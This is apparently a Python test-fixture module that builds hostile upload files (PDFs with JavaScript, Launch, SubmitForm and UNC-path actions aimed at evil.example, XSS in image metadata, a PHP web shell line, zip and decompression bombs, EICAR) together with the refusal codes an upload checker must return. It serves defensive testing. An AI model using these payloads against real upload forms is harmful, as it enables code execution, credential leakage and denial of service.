"""A corpus of hostile uploads, generated here (nothing binary is checked in): each entry is a file an attacker
would try against an upload field, with the refusal code `jaim.uploads` must give it. Also the good files the
same checks must let through (so the refusals are about the attack, not about PDFs or images in general).

Kinds: files that are not PDF/JPEG/PNG under those names; empty, oversize and broken files; PDFs with scripts,
launch/submit/import actions, additional actions, URI or script open actions, embedded files, rich media, XFA —
plain, with names in `#xx` escapes and inside compressed object streams; data appended after (or hidden between)
revisions; encrypted PDFs; the EICAR test virus (needs the real clamd: tests.clamd); images with markup in text
chunks (plain and compressed), EXIF, XMP or comments, with data appended, or too many pixels."""

import io
import struct
import zlib
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.clamd import EICAR

SMALL_LIMIT = 256 * 1024  # the per-file limit the corpus tests run with (the oversize entry is just above it)


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str  # the file name the attacker gives it
    content: bytes
    code: str  # the DomainError code jaim.uploads must refuse it with (infected: the test signatures of tests.clamd)
    heuristic: bool = False  # clamd's own heuristics refuse it too (as infected) before our checks see it


# --- PDF builders -----------------------------------------------------------------------------------------------


def raw_pdf(*objects: bytes, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF written byte by byte (so names keep the escapes an attacker chose) with a correct xref table.
    objects[i] is the body of object i+1."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer_extra,
        xref,
    )
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"


def raw_with_catalog(catalog_extra: bytes, *more: bytes, page_extra: bytes = b"") -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", PAGES, PAGE % page_extra, *more
    )


def pikepdf_pdf(change=None, **save_kwargs) -> bytes:
    """A one-page PDF made by qpdf; `change(pdf)` adds the attack; save options (object streams, encryption)."""
    buf = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        if change:
            change(pdf)
        pdf.save(buf, **save_kwargs)
    return buf.getvalue()


def _js_open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))
    )


def _names_js(pdf):
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
    )
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))


def _attachment(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program")


OBJSTM = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


def pdf_kinds() -> list[Hostile]:
    base = pikepdf_pdf()
    return [
        Hostile(
            "PDF: OpenAction JavaScript",
            "doc.pdf",
            raw_with_catalog(b"/OpenAction 4 0 R", JS_ACTION),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: JavaScript under a hex-escaped name (/J#61vaScript)",
            "doc.pdf",
            raw_with_catalog(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "pdf_active_content",
            heuristic=True,  # Heuristics.PDF.ObfuscatedNameObject
        ),
        Hostile(
            "PDF: Launch under a hex-escaped name (/L#61unch)",
            "doc.pdf",
            raw_with_catalog(b"/OpenAction 4 0 R", b"<< /S /L#61unch /F (cmd.exe) >>"),
            "pdf_active_content",
            heuristic=True,  # Heuristics.PDF.ObfuscatedNameObject
        ),
        Hostile(
            "PDF: Launch in a link annotation",
            "doc.pdf",
            raw_with_catalog(
                b"",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /Win << /F (calc.exe) >> >> >>",
                page_extra=b"/Annots [4 0 R] ",
            ),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: JavaScript inside a compressed object stream",
            "doc.pdf",
            pikepdf_pdf(_js_open_action, **OBJSTM),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: document-level JavaScript (Names tree)",
            "doc.pdf",
            pikepdf_pdf(_names_js),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: document-level JavaScript in an object stream",
            "doc.pdf",
            pikepdf_pdf(_names_js, **OBJSTM),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: OpenAction with a URI",
            "doc.pdf",
            raw_with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/collect) >>"),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: additional action (/AA) SubmitForm to an outside URL",
            "doc.pdf",
            raw_with_catalog(
                b"/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"
            ),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: page additional action (/AA) with a URI on open",
            "doc.pdf",
            raw_with_catalog(b"", page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >> "),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: ImportData action",
            "doc.pdf",
            raw_with_catalog(b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: GoToR to a UNC path (leaks Windows credentials)",
            "doc.pdf",
            raw_with_catalog(
                b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
            ),
            "pdf_active_content",
        ),
        Hostile("PDF: embedded file (attachment)", "doc.pdf", pikepdf_pdf(_attachment), "pdf_active_content"),
        Hostile(
            "PDF: embedded file in an object stream",
            "doc.pdf",
            pikepdf_pdf(_attachment, **OBJSTM),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: FileAttachment annotation",
            "doc.pdf",
            raw_with_catalog(
                b"",
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) >> >>",
                page_extra=b"/Annots [4 0 R] ",
            ),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: RichMedia annotation (Flash)",
            "doc.pdf",
            raw_with_catalog(
                b"",
                b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
                page_extra=b"/Annots [4 0 R] ",
            ),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: XFA form",
            "doc.pdf",
            raw_with_catalog(
                b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"
            ),
            "pdf_active_content",
        ),
        Hostile(
            "PDF: a zip archive appended after %%EOF",
            "doc.pdf",
            base + b"PK\x03\x04" + b"\x00" * 26 + b"payload",
            "trailing_data",
        ),
        Hostile(
            "PDF: an HTML page appended after %%EOF",
            "doc.pdf",
            base + b"<html><script>alert(1)</script>",
            "active_content",
        ),
        Hostile(
            "PDF: a zip hidden between revisions (a fake update with its own %%EOF)",
            "doc.pdf",
            base + b"PK\x03\x04" + b"\x00" * 26 + b"payload\nstartxref\n" + base.rsplit(b"startxref\n", 1)[1],
            "trailing_data",
        ),
        Hostile(
            "PDF: HTML polyglot in a comment",
            "doc.pdf",
            base.replace(b"%%EOF", b"%<iframe src=//evil.example>\n%%EOF"),
            "active_content",
        ),
        Hostile(
            "PDF: encrypted (a password is needed to open it)",
            "doc.pdf",
            pikepdf_pdf(encryption=pikepdf.Encryption(user="secret", owner="owner-secret")),
            "pdf_encrypted",
        ),
        Hostile(
            "PDF: encrypted with AES-256 and a password",
            "doc.pdf",
            pikepdf_pdf(encryption=pikepdf.Encryption(user="pw", owner="pw2", R=6)),
            "pdf_encrypted",
        ),
        Hostile("PDF: truncated in the middle", "doc.pdf", base[: len(base) // 2], "bad_pdf"),
        Hostile(
            "PDF: header, then garbage, then %%EOF",
            "doc.pdf",
            b"%PDF-1.7\n" + b"\x01\x02garbage" * 20 + b"\n%%EOF\n",
            "bad_pdf",
        ),
        Hostile(
            "PDF: header of a PDF, body of an HTML page",
            "doc.pdf",
            b"%PDF-1.4\n<html><body>hello</body></html>",
            "active_content",
        ),
        Hostile(
            "PDF carrying the EICAR test virus",
            "doc.pdf",
            base.replace(b"%%EOF", b"%" + EICAR + b"\n%%EOF"),
            "infected",
        ),
    ]


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


# --- image builders ---------------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png(size=(8, 8)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, format="PNG")
    return buf.getvalue()


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    base = png()
    iend = base.rindex(b"IEND") - 4
    return base[:iend] + png_chunk(kind, data) + base[iend:]


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming width×height pixels in a file of under 100 bytes (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def jpeg(size=(8, 8), **save_kwargs) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buf, format="JPEG", **save_kwargs)
    return buf.getvalue()


def jpeg_with_segment(marker: bytes, data: bytes) -> bytes:
    """A JPEG with one more segment (APPn/COM) right after SOI."""
    base = jpeg()
    return base[:2] + marker + struct.pack(">H", len(data) + 2) + data + base[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) is rewritten to claim width×height pixels."""
    base = bytearray(jpeg())
    sof = base.index(b"\xff\xc0")
    base[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(base)


def exif_with(description: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = description  # ImageDescription
    return exif.tobytes()


def image_kinds() -> list[Hostile]:
    return [
        Hostile(
            "PNG: tEXt chunk with <img onfocus=…>",
            "photo.png",
            png_with_chunk(b"tEXt", b"Comment\x00<img src=x onfocus=alert(1) autofocus>"),
            "active_content",
        ),
        Hostile(
            "PNG: tEXt chunk with <link>",
            "photo.png",
            png_with_chunk(b"tEXt", b"Title\x00<link rel=stylesheet href=//evil.example/x.css>"),
            "active_content",
        ),
        Hostile(
            "PNG: tEXt chunk with <style>",
            "photo.png",
            png_with_chunk(b"tEXt", b"Author\x00<style>body{background:url(//evil.example)}</style>"),
            "active_content",
        ),
        Hostile(
            "PNG: compressed zTXt chunk hiding <script> (invisible to a byte search)",
            "photo.png",
            png_with_chunk(
                b"zTXt", b"Comment\x00\x00" + zlib.compress(b"<script>alert(document.domain)</script>")
            ),
            "active_content",
        ),
        Hostile(
            "PNG: compressed iTXt chunk hiding <svg onload>",
            "photo.png",
            png_with_chunk(
                b"iTXt", b"Description\x00\x01\x00ja\x00\x00" + zlib.compress(b"<svg onload=alert(1)>")
            ),
            "active_content",
        ),
        Hostile(
            "PNG: HTML appended after IEND",
            "photo.png",
            png() + b"<script>alert(1)</script>",
            "active_content",
        ),
        Hostile(
            "PNG: zip appended after IEND", "photo.png", png() + b"PK\x03\x04" + b"\x00" * 40, "trailing_data"
        ),
        Hostile(
            "PNG: decompression bomb (60,000 × 60,000)",
            "bomb.png",
            png_claiming(60_000, 60_000),
            "too_many_pixels",
        ),
        Hostile("PNG: 30,000 × 30,000 pixels", "big.png", png_claiming(30_000, 30_000), "too_many_pixels"),
        Hostile(
            "PNG: 9,000 × 9,000 pixels (over the pixel limit, under Pillow's)",
            "big.png",
            png_claiming(9_000, 9_000),
            "too_many_pixels",
        ),
        Hostile(
            "PNG: signature, then garbage",
            "photo.png",
            b"\x89PNG\r\n\x1a\n" + b"\x00garbage" * 20,
            "bad_image",
        ),
        Hostile("PNG: cut in the middle of its pixel data", "photo.png", png((64, 64))[:60], "bad_image"),
        Hostile(
            "JPEG: COM segment with <script>",
            "photo.jpg",
            jpeg_with_segment(b"\xff\xfe", b"<script>alert(1)</script>"),
            "active_content",
        ),
        Hostile(
            "JPEG: EXIF description with <img onerror>",
            "photo.jpg",
            jpeg(exif=exif_with("<img src=x onerror=alert(1)>")),
            "active_content",
        ),
        Hostile(
            "JPEG: XMP packet with a javascript: link",
            "photo.jpg",
            jpeg_with_segment(
                b"\xff\xe1",
                b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><rdf:Description about='javascript:alert(1)'/></x:xmpmeta>",
            ),
            "active_content",
        ),
        Hostile(
            "JPEG: zip appended after the image",
            "photo.jpg",
            jpeg() + b"PK\x03\x04" + b"\x00" * 40,
            "trailing_data",
        ),
        Hostile("JPEG: 12,000 × 9,000 pixels", "big.jpg", jpeg_claiming(12_000, 9_000), "too_many_pixels"),
        Hostile(
            "JPEG: header, then text",
            "photo.jpg",
            b"\xff\xd8\xff\xe0" + b"not really a jpeg" * 10,
            "bad_image",
        ),
    ]


# --- not what it says it is ----------------------------------------------------------------------------------------


def other_kinds() -> list[Hostile]:
    return [
        Hostile(
            "HTML named .pdf",
            "invoice.pdf",
            b"<html><body><script>alert(1)</script></body></html>",
            "unsupported_type",
        ),
        Hostile(
            "HTML named .png", "photo.png", b"<!DOCTYPE html><script>alert(1)</script>", "unsupported_type"
        ),
        Hostile(
            "SVG named .png",
            "photo.png",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
            "unsupported_type",
        ),
        Hostile(
            "SVG named .pdf",
            "doc.pdf",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            "unsupported_type",
        ),
        Hostile(
            "Windows program named .pdf",
            "invoice.pdf",
            b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00",
            "unsupported_type",
        ),
        Hostile(
            "Windows program named .exe", "invoice.pdf.exe", b"MZ\x90\x00" + b"\x00" * 60, "unsupported_type"
        ),
        Hostile("zip bomb named .pdf", "doc.pdf", _zip_bomb(), "unsupported_type"),
        Hostile(
            "Word document (zip) named .pdf",
            "doc.pdf",
            b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + b"\x00" * 30,
            "unsupported_type",
        ),
        Hostile(
            "GIF named .png",
            "photo.png",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00;",
            "unsupported_type",
        ),
        Hostile(
            "WebP named .jpg", "photo.jpg", b"RIFF\x1a\x00\x00\x00WEBPVP8 " + b"\x00" * 20, "unsupported_type"
        ),
        Hostile(
            "HEIC named .jpg",
            "photo.jpg",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
            "unsupported_type",
        ),
        Hostile("PHP named .png", "shell.png", b"<?php system($_GET['c']); ?>", "unsupported_type"),
        Hostile("plain EICAR test virus named .pdf", "eicar.pdf", EICAR, "infected"),
        Hostile("empty file named .pdf", "empty.pdf", b"", "empty"),
        Hostile("empty file named .png", "empty.png", b"", "empty"),
        Hostile("PDF over the size limit", "big.pdf", _oversize_pdf(), "too_large"),
    ]


def _zip_bomb() -> bytes:
    """A zip whose one member inflates to 50 MB (a real archive made by zipfile)."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bomb.txt", b"\x00" * 50_000_000)
    return buf.getvalue()


def _oversize_pdf() -> bytes:
    base = pikepdf_pdf()
    return base.replace(b"%%EOF", b"%" + b"x" * (SMALL_LIMIT + 1 - len(base)) + b"\n%%EOF")


def hostile_files() -> list[Hostile]:
    return [*other_kinds(), *pdf_kinds(), *image_kinds()]


# --- the good files (must be accepted) -----------------------------------------------------------------------------


def good_files() -> dict[str, tuple[str, bytes]]:
    def link(pdf):
        pdf.pages[0].Annots = pdf.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=[0, 0, 100, 20],
                        A=pikepdf.Dictionary(
                            S=pikepdf.Name.URI, URI=pikepdf.String("https://www.jaim.example/")
                        ),
                    )
                ]
            )
        )

    def incremental(content: bytes) -> bytes:
        """An incremental update (as a PDF editor saves it): a new Info object and xref section appended."""
        with pikepdf.open(io.BytesIO(content)) as pdf:
            size = len(pdf.objects) + 1
        prev = int(content.rsplit(b"startxref\n", 1)[1].split()[0])
        obj = b"%d 0 obj\n<< /Title (revised) >>\nendobj\n" % size
        start = len(content)
        xref = start + len(obj)
        return (
            content
            + obj
            + b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (size, start)
            + b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (size + 1, size, prev, xref)
        )

    return {
        "PDF written by qpdf": ("doc.pdf", pikepdf_pdf()),
        "PDF with object streams": ("doc.pdf", pikepdf_pdf(**OBJSTM)),
        "PDF with a web link on the page": ("doc.pdf", pikepdf_pdf(link)),
        "PDF with an incremental update": ("doc.pdf", incremental(pikepdf_pdf())),
        "PDF with a permissions (owner-only) password": (
            "doc.pdf",
            pikepdf_pdf(
                encryption=pikepdf.Encryption(
                    user="", owner="owner-only", allow=pikepdf.Permissions(modify_other=False)
                )
            ),
        ),
        "JPEG": ("photo.jpg", jpeg((64, 48))),
        "PNG": ("photo.png", png((64, 48))),
    }


def object_stream_bomb(inflated: int = 200 * 1024 * 1024) -> bytes:
    """A PDF of a few hundred KB whose compressed object stream inflates to `inflated` bytes (one huge string),
    listed by a cross-reference stream so that a parser must inflate it. Compressed piecewise: never in memory."""
    packer = zlib.compressobj(9)
    header = b"5 0 "
    body = [packer.compress(header + b"<< /X (")]
    block = b" " * (1024 * 1024)
    for _ in range(inflated // len(block)):
        body.append(packer.compress(block))
    body.append(packer.compress(b") >>") + packer.flush())
    objstm = b"".join(body)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Extra 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(objstm))
        + objstm
        + b"\nendstream",
    }
    for number, text in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    return bytes(out)
